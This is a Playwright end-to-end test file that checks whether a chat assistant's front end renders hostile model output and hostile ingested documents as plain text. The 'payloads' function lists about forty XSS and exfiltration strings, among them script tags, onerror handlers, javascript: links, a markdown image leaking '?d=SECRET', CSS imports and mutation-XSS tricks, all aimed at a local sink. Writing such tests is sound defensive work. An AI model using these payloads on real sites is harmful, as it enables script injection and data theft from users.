"""Hostile documents and hostile models before a real browser: nothing is asked of anyone else, and no script runs.

Twice: as the front end is served, and with its Content-Security-Policy put out of force, so that what holds is the markup's own
harmlessness and not the policy behind it.
"""

from __future__ import annotations

import io
import json
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass, field
from functools import partial
from typing import Any

import pytest
from playwright.sync_api import Page, expect

from tests.e2e import pages
from tests.e2e.conftest import Visit, front_end
from tests.ui.fake_gateway import FakeGateway, Reply
from tests.vernacular.fetching.listener import Listener, listening
from tests.vllm.processes import GatewayServer, Tenant, until

pytestmark = pytest.mark.e2e
KEY = "vn-untrusted"
VISITS = [{}, {"bypass_csp": True}]
QUESTION = "What does the harbour permit cost?"
FACT = "The harbour permit costs 425 crowns a year."


def payloads(sink: str) -> list[str]:
    """Markup that would reach the sink or set `window.intruded`, in each of the ways that a page has."""
    run = "window.intruded=1"
    return [
        f"![a]({sink}/md?d=SECRET)", f'<img src="{sink}/img" onerror="{run}">', f"<img src=x onerror={run}>",
        f"<script>{run}</script>", f"<script src={sink}/script></script>", f"<svg onload={run}><image href={sink}/svg></svg>",
        f"<iframe src={sink}/frame></iframe>", f"<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
        f"<link rel=stylesheet href={sink}/css>", f"<style>@import '{sink}/import'; * {{background: url({sink}/style)}}</style>",
        f"<video src={sink}/video autoplay>", f"<object data={sink}/object></object>", f"<embed src={sink}/embed>",
        f"<meta http-equiv=refresh content='0;url={sink}/refresh'>", f"<base href={sink}/>", f"<details open ontoggle={run}>",
        f"<body onload={run}>", f"<input autofocus onfocus={run}>", f"<a href='javascript:{run}'>x</a>", f"[x](javascript:{run})",
        f"<p style='background:url({sink}/inline)'>x</p>", f"<picture><source srcset={sink}/set><img></picture>",
        f"[a]: {sink}/ref\n\n![a]", f"&lt;img src={sink}/entity&gt;", f"&#60;img src={sink}/numeric&#62;",
        f"$$\\includegraphics{{{sink}/math}}$$", f"$\\href{{javascript:{run}}}{{x}}$", f"<math href='javascript:{run}'>x</math>",
        f"<form action={sink}/form><button>x</button></form>", f'"><img src={sink}/attribute>', f"'><script>{run}</script>",
        f"</div></p><img src={sink}/closing>", f"`<img src={sink}/code>`", f"```\n<img src={sink}/fence>\n```",
        f"::material/home::![a]({sink}/icon)", f":red[![a]({sink}/colour)]", f"<noscript><p title='</noscript><img src={sink}/mutation>'>",
        f"<template><img src={sink}/template></template>", f"\u202e![a]({sink}/bidi)\u202c", f"<im\u200bg src={sink}/invisible>",
    ]  # fmt: skip


@dataclass
class HostileGateway(FakeGateway):
    """A gateway that neutralises nothing: whatever it can say is hostile. The front end alone stands before the visitor."""

    sink: str = ""
    texts: list[str] = field(default_factory=list)

    def handle(self, method: str, path: str, authorization: str, body: bytes) -> Reply:
        everything = " ".join(self.texts)
        if path == "/v1/tenant":
            return _reply(
                {
                    "name": "untrusted", "display_name": f"Harbour {everything}", "languages": ["en", self.texts[1]], "dialects": [],
                    "varieties": [{"tag": "en-GB", "name": self.texts[0], "native": everything}], "answer_in": "question",
                    "contact": {"name": everything, "phone": self.texts[1], "email": self.texts[2], "uri": "javascript:window.intruded=1"},
                    "greeting": everything, "suggested_questions": ["ask " + text.replace("\n", " ") for text in self.texts[:6]],
                }
            )  # fmt: skip
        if path.endswith("/content"):
            return _reply({"document_id": "d", "title": everything, "text": self._document(), "pages": []})
        if path == "/v1/chat/completions":
            question = json.loads(body)["messages"][-1]["content"]
            return self._hostile_answer(declined="decline" in question, broken="error" in question)
        return super().handle(method, path, authorization, body)

    def _document(self) -> str:
        return "\n\n".join([*self.texts, FACT, *self.texts])

    def _hostile_answer(self, *, declined: bool, broken: bool) -> Reply:
        if broken:
            told = {"name": self.texts[1], "message": " ".join(self.texts), "hint": self.texts[3], "request_id": "r"}
            return Reply(400, json.dumps({"error": told}).encode())
        quote = f"{self.texts[0]} {self.texts[1]}"
        annotation = {
            "type": "file_citation", "index": 1, "file_id": "d", "source_id": self.texts[0], "title": " ".join(self.texts),
            "quote": quote, "start": 0, "end": len(quote), "uri": "javascript:window.intruded=1", "page": 1,
            "valid_from": self.texts[1], "filename": self.texts[0],
        }  # fmt: skip
        text = "\n\n".join(f"{each} [1]" for each in self.texts)
        pieces: list[dict[str, Any]] = [
            {"choices": [{"index": 0, "delta": {"content": text[at : at + 5]}}]} for at in range(0, len(text), 5)
        ]
        verdict = {
            "answered": not declined, "reason": self.texts[1], "language": self.texts[1], "conversation_id": "c",
            "understood": {"tag": "en-GB", "name": self.texts[0], "native": " ".join(self.texts[:3])},
            "unsupported": [[0, 40]], "code": [{"start": 0, "end": 9, "language": "html", "verified": False}],
        }  # fmt: skip
        annotations = [] if declined else [annotation]
        last = {
            "choices": [{"index": 0, "delta": {"annotations": annotations}, "finish_reason": "stop"}],
            "vernacular": verdict,
        }
        events = b"".join(b"data: " + json.dumps(each).encode() + b"\n\n" for each in (*pieces, last))
        return Reply(200, events + b"data: [DONE]\n\n", "text/event-stream")


def _has_ended(tenant: Tenant, job: str) -> bool:
    return tenant.call("GET", job).json()["state"] in ("succeeded", "partial")


def _reply(body: dict[str, Any]) -> Reply:
    return Reply(200, json.dumps(body).encode())


@pytest.fixture(scope="module")
def sink() -> Iterator[Listener]:
    with listening() as listener:
        yield listener


@pytest.fixture(scope="module")
def hostile(sink: Listener, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """The address of a front end before a gateway that says nothing but hostile things."""
    address = f"http://127.0.0.1:{sink.port}"
    gateway = HostileGateway(sink=address, texts=payloads(address))
    with (
        gateway.listen() as url,
        front_end(url, tmp_path_factory.mktemp("home"), {"untrusted": KEY}) as served,
    ):
        yield served


@pytest.fixture(scope="module")
def planted(sink: Listener, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """The address of a front end before a real gateway, whose tenant took hostile documents of every format in."""
    gateway = GatewayServer(tmp_path_factory.mktemp("gateway"), {})
    try:
        gateway.wait()
        harbour = gateway.tenant("harbour")
        texts = payloads(f"http://127.0.0.1:{sink.port}")
        one_line = [text.replace("\n", " ") for text in texts]
        # The fact stands among the markup, so that what is quoted carries it.
        body = "\n\n".join(f"{FACT[:-1]} {text}." for text in one_line)
        record = {"id": "record", "title": " ".join(one_line), "text": body, "metadata": {"note": one_line[1]}}
        files = {
            "page.html": f"<html><head><title>{one_line[3]}</title></head><body><h1>{one_line[1]}</h1><p>{body}</p></body></html>",
            "notes.md": f"# {one_line[0]}\n\n{body}",
            '"><img src=x onerror=window.intruded=1>.txt': body,
        }
        packed = io.BytesIO()
        with zipfile.ZipFile(packed, "w") as archive:
            for name, text in files.items():
                archive.writestr(name, text)
        ndjson = {"Content-Type": "application/x-ndjson"}
        sent = [
            harbour.call("POST", "/v1/documents", content=json.dumps(record), headers=ndjson),
            harbour.call("POST", "/v1/documents", files={"file": ("<b>all</b>.zip", packed.getvalue())}),
        ]
        for response in sent:
            job = f"/v1/jobs/{response.json()['job_id']}"
            until(partial(_has_ended, harbour, job), "the documents", 60)
        assert len(harbour.call("GET", "/v1/documents").json()["documents"]) == 4
        with front_end(gateway.url, tmp_path_factory.mktemp("home"), {"harbour": harbour.key}) as address:
            yield address
    finally:
        gateway.stop()


def ask(page: Page, question: str) -> None:
    page.get_by_role("textbox").last.fill(question)
    page.keyboard.press("Enter")


def assert_untouched(page: Page, sink: Listener) -> None:
    assert page.evaluate("window.intruded") is None
    assert ([path for path, _ in sink.hits], sink.connections) == ([], 0)


@pytest.mark.parametrize("visit", VISITS, indirect=True, ids=["with the policy", "without it"])
class TestHostileGateway:
    def test_the_chat_shows_it_as_words(self, hostile: str, sink: Listener, visit: Visit) -> None:
        page = visit.page
        page.goto(f"{hostile}/?tenant=untrusted")
        page.wait_for_selector(".vn-greeting")
        ask(page, "anything")
        expect(page.locator("a.vn-marker").first).to_be_visible()
        expect(page.locator(".vn-answer").last).to_contain_text("/md?d=SECRET")
        pages.at_rest(page)
        assert page.locator(".vn-answer img, .vn-answer script, .vn-answer iframe, .vn-answer svg").count() == 0
        assert_untouched(page, sink)

    def test_the_source_shows_it_as_words(self, hostile: str, sink: Listener, visit: Visit) -> None:
        page = visit.page
        page.goto(f"{hostile}/?tenant=untrusted")
        ask(page, "anything")
        page.locator("a.vn-marker").first.click()
        dialog = page.get_by_role("dialog")
        expect(dialog.locator(".vn-document")).to_contain_text("/md?d=SECRET")
        pages.at_rest(page)
        assert dialog.locator(".vn-document img, .vn-source-title img, iframe, object, embed").count() == 0
        assert dialog.locator("a[href^='javascript:']").count() == 0
        assert_untouched(page, sink)

    @pytest.mark.parametrize("question", ["decline this", "error this"])
    def test_declines_and_errors_show_it_as_words(
        self, hostile: str, sink: Listener, visit: Visit, question: str
    ) -> None:
        page = visit.page
        page.goto(f"{hostile}/?tenant=untrusted")
        ask(page, question)
        expect(page.locator(".vn-box").last).to_contain_text("/md?d=SECRET")
        pages.at_rest(page)
        assert page.locator(".vn-box img, .vn-box iframe, a[href^='javascript:']").count() == 0
        assert_untouched(page, sink)

    def test_the_list_of_assistants_shows_it_as_words(self, hostile: str, sink: Listener, visit: Visit) -> None:
        page = visit.page
        page.goto(hostile)
        expect(page.locator(".vn-card")).to_contain_text("/md?d=SECRET")
        pages.at_rest(page)
        assert page.locator(".vn-card img, .vn-card iframe").count() == 0
        assert_untouched(page, sink)

    def test_the_address_of_the_page_is_taken_for_words_too(self, hostile: str, sink: Listener, visit: Visit) -> None:
        page = visit.page
        for name in ("tenant", "lang", "answer_in"):
            page.goto(
                f"{hostile}/?tenant=untrusted&{name}=%22%3E%3Cimg%20src%3D{sink.port}%20onerror%3Dwindow.intruded%3D1%3E"
            )
            page.wait_for_selector(".vn-header")
            pages.at_rest(page)
        assert_untouched(page, sink)


@pytest.mark.parametrize("visit", VISITS, indirect=True, ids=["with the policy", "without it"])
class TestHostileDocuments:
    def test_are_quoted_and_shown_as_words(self, planted: str, sink: Listener, visit: Visit) -> None:
        page = visit.page
        page.goto(f"{planted}/?tenant=harbour")
        ask(page, QUESTION)
        expect(page.locator(".vn-answer").last).to_contain_text("425 crowns")
        pages.at_rest(page)
        assert_untouched(page, sink)
        for number in range(page.locator("a.vn-marker").count()):
            page.locator("a.vn-marker").nth(number).click()
            expect(page.get_by_role("dialog").locator(".vn-document")).to_contain_text("425 crowns")
            pages.at_rest(page)
            page.get_by_role("dialog").get_by_role("button", name="Close").click()
            expect(page.get_by_role("dialog")).to_have_count(0)
        assert_untouched(page, sink)


class TestTheSink:
    """What shows that the tests above could fail. Last, for it is hit here."""

    @pytest.mark.parametrize("visit", [{"bypass_csp": True}], indirect=True)
    def test_is_reached_by_markup_that_lives(self, hostile: str, sink: Listener, visit: Visit) -> None:
        page = visit.page
        page.goto(hostile)
        page.wait_for_selector(".vn-card")
        page.evaluate(f"document.body.insertAdjacentHTML('beforeend', '<img src=http://127.0.0.1:{sink.port}/live>')")
        until(lambda: bool(sink.hits), "the request")
        assert [path for path, _ in sink.hits] == ["/live"]
